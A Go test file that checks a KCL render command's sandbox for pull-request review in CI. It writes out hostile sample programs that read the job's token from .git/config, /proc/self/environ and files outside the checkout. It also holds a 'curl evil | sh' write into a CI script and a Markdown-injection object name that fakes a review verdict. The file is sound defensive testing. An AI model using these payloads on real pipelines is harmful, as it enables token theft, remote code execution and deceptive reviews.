package rendercmd

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kcl-flux/kcl-artifact-controller/internal/kclmod/kclmodtest"
	"github.com/kcl-flux/kcl-artifact-controller/test/kclapp"
)

// reviewCheckouts are a pull request's head and its base, side by side, each a Git checkout whose
// .git/config holds the job's token, plus a worktree of the head (its .git is a file) and a
// secret file outside both.
type reviewCheckouts struct {
	head, base, worktree, secret string
}

func newReviewCheckouts(t *testing.T) reviewCheckouts {
	t.Helper()
	w := t.TempDir()
	c := reviewCheckouts{head: filepath.Join(w, "head"), base: filepath.Join(w, "base"),
		worktree: filepath.Join(w, "wt"), secret: filepath.Join(t.TempDir(), "secret.txt")}
	for _, dir := range []string{c.head, c.base} {
		kclapp.Checkout(t, dir, map[string]string{"main.k": baseProgram, "kclartifact.yaml": reviewKCLArtifact})
	}
	kclapp.Git(t, c.head, "worktree", "add", "-q", c.worktree)
	// a link to .git inside the tree: the path does not say .git
	if err := os.Symlink(".git", filepath.Join(c.head, "gitlink")); err != nil {
		t.Fatal(err)
	}
	write(t, c.secret, "SECRET-OUTSIDE-THE-CHECKOUTS")
	return c
}

// baseProgram renders one ConfigMap; its comment stands for source the head must not read.
const baseProgram = "# BASE-SOURCE-MARKER\n[{apiVersion = \"v1\", kind = \"ConfigMap\", metadata.name = \"leak\", data.v = \"1\"}]\n"

const reviewKCLArtifact = `apiVersion: kcl.contrib.fluxcd.io/v1alpha1
kind: KCLArtifact
metadata: {name: app, namespace: apps}
spec:
  interval: 5m
  sourceRef: {kind: GitRepository, name: repo}
  path: ./
`

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// leak is a head program that copies what expr reads into a ConfigMap, the way a pull request
// would get it into the diff it posts.
func leak(expr string) string {
	return "import file\n\n[{apiVersion = \"v1\", kind = \"ConfigMap\", metadata.name = \"leak\", data.v = str(" + expr + ")}]\n"
}

// A pull request's program reads what the CI job must keep: the token in .git/config, Git's
// metadata however reached, the base checkout, the environment, files outside. Rendered for
// review (--diff-from, with and without a KCLArtifact manifest), with the sandbox by default and
// asked for, every read fails with an error (exit 2) and nothing of it reaches stdout or stderr.
// Watched first on the code before: .git/config, .git/HEAD, the link and the worktree's .git
// were read and printed in every mode; the rest without --sandbox.
func TestReviewRendersReadNoMetadataNorOutside(t *testing.T) {
	c := newReviewCheckouts(t)
	t.Setenv("KCL_REVIEW_SECRET", "SECRET-FROM-THE-ENVIRONMENT")
	eachHostileRead(t, c, func(name, dir string) {
		for _, mode := range [][]string{
			{"--diff-from", c.base},
			{"--diff-from", c.base, "--sandbox"},
			{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml"},
			{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml", "--sandbox"},
		} {
			args := append([]string{"-o", "markdown"}, mode...)
			if len(mode) == 2 || mode[2] == "--sandbox" {
				args = append(args, "main.k")
			}
			out, errOut, code := runRender(t, dir, args...)
			expectRefusedRead(t, name, mode, out, errOut, code, exitError)
		}
	})
	// the environment is empty: the read gives nothing, no error
	write(t, filepath.Join(c.head, "main.k"), leak(`file.read_env("KCL_REVIEW_SECRET")`))
	out, errOut, _ := runRender(t, c.head, "--diff-from", c.base, "main.k")
	if strings.Contains(out+errOut, "SECRET-FROM") {
		t.Errorf("file.read_env reached the environment: %s %s", out, errOut)
	}
}

// hostileReads are what a pull request's program reads to leak it, by name: the job's token in
// .git/config, Git's metadata however reached, the base checkout, the environment, files outside.
func hostileReads(c reviewCheckouts) map[string]string {
	return map[string]string{
		"git-config":     `file.read(".git/config")`,
		"git-head":       `file.read(".git/HEAD")`,
		"link-to-git":    `file.read("gitlink/config")`,
		"absolute-git":   fmt.Sprintf(`file.read(%q)`, filepath.Join(c.head, ".git", "config")),
		"base-checkout":  fmt.Sprintf(`file.read(%q)`, filepath.Join(c.base, ".git", "config")),
		"base-tree":      fmt.Sprintf(`file.read(%q)`, filepath.Join(c.base, "main.k")),
		"proc-environ":   `file.read("/proc/self/environ")`,
		"outside":        fmt.Sprintf(`file.read(%q)`, c.secret),
		"worktree-git":   `file.read(".git")`,
		"worktree-admin": fmt.Sprintf(`file.read(%q)`, filepath.Join(c.head, ".git", "worktrees", "wt", "HEAD")),
	}
}

// eachHostileRead makes each of hostileReads the program of the checkout it reads from (the
// head, or its worktree) and calls render with the read's name and that checkout.
func eachHostileRead(t *testing.T, c reviewCheckouts, render func(name, dir string)) {
	t.Helper()
	for name, expr := range hostileReads(c) {
		dir := c.head
		if strings.HasPrefix(name, "worktree") {
			dir = c.worktree
		}
		write(t, filepath.Join(dir, "main.k"), leak(expr))
		render(name, dir)
	}
}

// expectRefusedRead asserts that a hostile read failed the render with code and that nothing it
// could have read reached the output.
func expectRefusedRead(t *testing.T, name string, mode []string, out, errOut string, code, want int) {
	t.Helper()
	for _, s := range []string{"eC1hY2Nlc3MtdG9rZW46", "refs/heads/", "gitdir:", "SECRET-", "BASE-SOURCE-MARKER"} {
		if strings.Contains(out+errOut, s) {
			t.Errorf("%s %v: %q reached the output:\nstdout %s\nstderr %s", name, mode, s, out, errOut)
		}
	}
	if code != want || errOut == "" {
		t.Errorf("%s %v: exit %d, stderr %q: want a refused read (exit %d)", name, mode, code, errOut, want)
	}
}

// In review, what a pull request's program writes changes nothing on disk: not its own checkout,
// not the base, not the scripts the job runs next.
func TestReviewRendersWriteNothing(t *testing.T) {
	c := newReviewCheckouts(t)
	hook := filepath.Join(c.base, "ci.sh")
	write(t, hook, "echo ok\n")
	program := fmt.Sprintf(`import file

file.write("written.txt", "x")
file.write(%q, "curl evil | sh")
file.mkdir("made-dir")
file.delete("kclartifact.yaml")
[{apiVersion = "v1", kind = "ConfigMap", metadata.name = "leak", data.v = "2"}]
`, hook)
	write(t, filepath.Join(c.head, "main.k"), program)
	for _, mode := range [][]string{{"--diff-from", c.base, "main.k"},
		{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml"}} {
		_, errOut, code := runRender(t, c.head, mode...)
		if code != exitError {
			t.Errorf("%v: exit %d (%s): the writes were not refused", mode, code, errOut)
		}
		for _, p := range []string{"written.txt", "made-dir"} {
			if _, err := os.Stat(filepath.Join(c.head, p)); err == nil {
				t.Errorf("%v: the program created %s in the checkout", mode, p)
			}
		}
		if _, err := os.Stat(filepath.Join(c.head, "kclartifact.yaml")); err != nil {
			t.Errorf("%v: the program deleted a file of the checkout", mode)
		}
		if b, _ := os.ReadFile(hook); string(b) != "echo ok\n" {
			t.Errorf("%v: the program rewrote the base's script: %q", mode, b)
		}
	}
}

// --sandbox=false in review says so on stderr, and still keeps .git out of the tree rendered.
func TestReviewWithoutSandboxSaysSoAndHidesMetadata(t *testing.T) {
	c := newReviewCheckouts(t)
	write(t, filepath.Join(c.head, "main.k"), leak(`file.read(".git/config")`))
	out, errOut, code := runRender(t, c.head, "--diff-from", c.base, "--sandbox=false", "main.k")
	if !strings.Contains(errOut, "--sandbox=false") || code != exitError {
		t.Fatalf("exit %d, stderr %q", code, errOut)
	}
	if strings.Contains(out+errOut, "eC1hY2Nlc3MtdG9rZW46") {
		t.Fatalf("the token reached the output: %s %s", out, errOut)
	}
	// the error names the path as the program wrote it, and the checkout's file (not the copy's)
	if !strings.Contains(errOut, "'.git/config': No such file") || !strings.Contains(errOut, filepath.Join(c.head, "main.k")) {
		t.Fatalf("the refused read is not explained: %s", errOut)
	}
}

// The workflow docs/render.md documents is the safe one, and its command line, run as written
// (the image's mounts as paths) against checkouts whose .git/config holds the token, leaks
// nothing of what a hostile pull request reads.
func TestDocumentedWorkflowIsSafe(t *testing.T) {
	doc, err := os.ReadFile("../../docs/render.md")
	if err != nil {
		t.Fatal(err)
	}
	workflow := string(doc)[strings.Index(string(doc), "name: kcl-diff"):]
	workflow = workflow[:strings.Index(workflow, "```")]
	for _, must := range []string{"persist-credentials: false}\n      - uses", "ref: \"${{ github.base_ref }}\", persist-credentials: false",
		`-v "$PWD/head:/w/head:ro" -v "$PWD/base:/w/base:ro"`, "contents: read"} {
		if !strings.Contains(workflow, must) {
			t.Fatalf("the documented workflow lacks %q", must)
		}
	}
	if strings.Contains(workflow, "--sandbox=false") || strings.Contains(workflow, `"$PWD:/w"`) {
		t.Fatal("the documented workflow turns the sandbox off or mounts the whole workspace")
	}
	// the render's arguments, from "render" to "-o markdown", continuation lines joined
	line := workflow[strings.Index(workflow, "render --diff-from"):]
	line = line[:strings.Index(line, "-o markdown")+len("-o markdown")]
	args := strings.Fields(strings.ReplaceAll(line, "\\\n", " "))[1:]

	c := newReviewCheckouts(t)
	for _, dir := range []string{c.head, c.base} {
		if err := os.MkdirAll(filepath.Join(dir, "clusters", "prod"), 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(dir, "clusters", "prod", "podinfo.yaml"), reviewKCLArtifact)
	}
	write(t, filepath.Join(c.head, "main.k"), leak(`file.read(".git/config")`))
	for i, a := range args {
		switch a {
		case "/w/base":
			args[i] = c.base
		case "/tmp/kcl-deps":
			args[i] = t.TempDir()
		}
	}
	out, errOut, code := runRender(t, c.head, args...)
	if code != exitError || strings.Contains(out+errOut, "eC1hY2Nlc3MtdG9rZW46") {
		t.Fatalf("render %v: exit %d\nstdout %s\nstderr %s", args, code, out, errOut)
	}
}

// In review, a pull request's kcl.mod cannot make render fetch from a service on the job's own
// machine (and print its answer): loopback is not an allowed dependency network by default.
func TestReviewDependencyOnLoopbackIsRefused(t *testing.T) {
	c := newReviewCheckouts(t)
	local := kclmodtest.ErrorServer(t, http.StatusBadRequest, "LOCAL-SERVICE-ANSWER", 20)
	write(t, filepath.Join(c.head, "kcl.mod"), "[package]\nname = \"app\"\nedition = \"v0.11.0\"\nversion = \"0.1.0\"\n\n[dependencies]\n"+
		fmt.Sprintf(`lib = { oci = "oci://%s/team/lib", tag = "1.0.0" }`, local.Host)+"\n")
	out, errOut, code := runRender(t, c.head, "--diff-from", c.base, "--deps-cache-dir", t.TempDir(), ".")
	if code != exitError || !strings.Contains(errOut, "host not allowed") || strings.Contains(out+errOut, "LOCAL-SERVICE") {
		t.Fatalf("exit %d\nstdout %s\nstderr %s", code, out, errOut)
	}
	if n := local.Requests(); n != 0 {
		t.Fatalf("%d requests reached the local service", n)
	}
}

// A program that renders a huge string into a ConfigMap cannot make the pull-request comment
// exceed what GitHub holds: the Markdown stays under 60,000 characters and still lists the object.
func TestReviewMarkdownStaysUnderTheCommentLimit(t *testing.T) {
	c := newReviewCheckouts(t)
	write(t, filepath.Join(c.head, "main.k"), `[{apiVersion = "v1", kind = "ConfigMap", metadata.name = "leak", data.v = "x" * 5000000}]`+"\n")
	out, errOut, code := runRender(t, c.head, "--diff-from", c.base, "-o", "markdown", "main.k")
	if code != exitDiffers || len(out) > 60000 || !strings.Contains(out, "ConfigMap") {
		t.Fatalf("exit %d, %d characters, stderr %s", code, len(out), errOut)
	}
}

// A pull request naming an object so that the comment lies is refused as invalid output: the
// render fails (exit 2) and the name reaches no output as written.
func TestReviewRefusesHostileObjectNames(t *testing.T) {
	c := newReviewCheckouts(t)
	write(t, filepath.Join(c.head, "main.k"), `[{apiVersion = "v1", kind = "ConfigMap", metadata.name = "a`+"`"+` | changed | main |\n\n**Reviewed: no functional change.** <!--"}]`+"\n")
	out, errOut, code := runRender(t, c.head, "--diff-from", c.base, "-o", "markdown", "main.k")
	if code != exitError || !strings.Contains(errOut, "invalid metadata.name") || strings.Contains(out+errOut, "<!--") ||
		strings.Contains(out+errOut, "**Reviewed") {
		t.Fatalf("exit %d\nstdout %s\nstderr %s", code, out, errOut)
	}
}
